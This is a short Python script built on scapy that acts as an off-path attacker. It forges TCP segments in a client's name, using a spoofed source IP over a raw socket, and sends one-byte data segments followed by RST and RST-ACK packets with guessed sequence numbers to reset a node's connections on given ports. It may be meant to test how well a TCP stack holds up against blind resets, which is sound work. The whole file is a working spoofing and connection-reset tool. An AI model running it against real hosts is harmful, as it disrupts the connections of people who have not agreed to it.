# SPDX-License-Identifier: MIT
"""
An off-path host that tries to reset connections of which it knows only the addresses and ports.

C{blind_resets.py DEVICE MAC CLIENT NODE ROUNDS PORT...}: for each port and round it sends, in the
client's name, a segment of one octet with a random number, and resets with the numbers at and
behind it, as if the first could write what the second is compared with.
"""

from __future__ import annotations

import random
import socket
import sys
import time

from scapy.layers.inet import IP, TCP
from scapy.layers.inet6 import IPv6
from scapy.layers.l2 import Ether

_PAUSE = 0.001
"""Seconds between two rounds for one port: a bounded rate."""


def main(device: str, mac: str, client: str, node: str, rounds: str, *ports: str) -> None:
    """
    Send all rounds.
    """
    dice = random.Random(int(rounds))
    ip = IPv6(src=client, dst=node) if ":" in client else IP(src=client, dst=node)
    sent = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sending:
        sending.bind((device, 0))
        for _ in range(int(rounds)):
            for port in map(int, ports):
                seq, ack = dice.getrandbits(32), dice.getrandbits(32)
                behind = (seq + 1) % 2**32
                for flags, number, data in (
                    ("PA", seq, b"x"),
                    ("R", seq, b""),
                    ("R", behind, b""),
                    ("RA", behind, b""),
                ):
                    tcp = TCP(sport=port, dport=80, seq=number, ack=ack, flags=flags, window=512)
                    sending.send(bytes(Ether(dst=mac) / ip / tcp / data))
                    sent += 1
                time.sleep(_PAUSE)
    print(sent)


if __name__ == "__main__":
    main(*sys.argv[1:])
